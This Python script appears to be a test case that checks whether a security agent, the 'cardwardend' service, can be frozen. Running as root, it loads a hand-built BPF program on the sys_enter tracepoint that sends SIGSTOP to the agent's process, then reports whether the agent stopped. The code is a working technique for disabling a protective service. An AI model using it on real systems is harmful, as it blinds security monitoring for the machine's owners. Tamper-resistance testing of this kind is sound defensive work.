#!/usr/bin/env python3
# Have a kernel program stop the agent at its next call (bpf_send_signal)
# as: root
# stands: nothing: such a signal is the kernel's own, and asks nobody
# expect: open as root
# why: what helpers a program calls, no hook says; it stops the agent and nothing that is in force
# listed: root stops or masks the service
# machine: alone
import ctypes
import struct
import subprocess
import time

import bpf
from attack import attempt, refused, succeeded

RAW_TRACEPOINT, TRACEPOINT_OPEN = 17, 17
PID_TGID, SEND_SIGNAL, SIGSTOP = 14, 109, 19


def code(operation, target=0, source=0, offset=0, value=0):
    return struct.pack("=BBhi", operation, source << 4 | target, offset, value)


def said(*command):
    return subprocess.run(command, capture_output=True, text=True, timeout=20).stdout


agent = int(said("systemctl", "show", "--property=MainPID", "--value", "cardwardend"))
# A call of the agent's gets the signal; others go on.
program = (
    code(0x85, value=PID_TGID)
    + code(0x77, value=32)
    + code(0x55, offset=2, value=agent)
    + code(0xB7, 1, value=SIGSTOP)
    + code(0x85, value=SEND_SIGNAL)
    + bpf.RETURN_0
)
mine = attempt(bpf.load, RAW_TRACEPOINT, program)
name = ctypes.create_string_buffer(b"sys_enter")
held = attempt(bpf.bpf, TRACEPOINT_OPEN, ctypes.addressof(name), mine, 0, form="QII")
# Something that it answers.
nudge = subprocess.Popen(["cardwarden", "status"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
end = time.monotonic() + 10
while time.monotonic() < end:
    with open(f"/proc/{agent}/stat") as stat:
        if stat.read().rsplit(")", 1)[1].split()[0] == "T":
            nudge.kill()
            succeeded("it is stopped")
nudge.kill()
refused("it goes on")
